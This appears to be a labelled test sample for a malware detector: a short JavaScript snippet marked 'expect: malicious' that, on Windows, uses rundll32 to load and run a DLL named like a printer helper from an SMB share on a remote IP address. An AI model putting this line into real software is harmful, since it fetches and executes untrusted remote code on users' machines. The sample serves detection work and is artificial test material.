// expect: malicious
// A program run from an SMB share on another host: `rundll32 \\host\share\x.dll,Entry` loads the DLL over the network.
const { exec } = require('child_process');
if (process.platform === 'win32') exec('rundll32 \\\\198.51.100.23\\drivers\\printhelper.dll,Install');
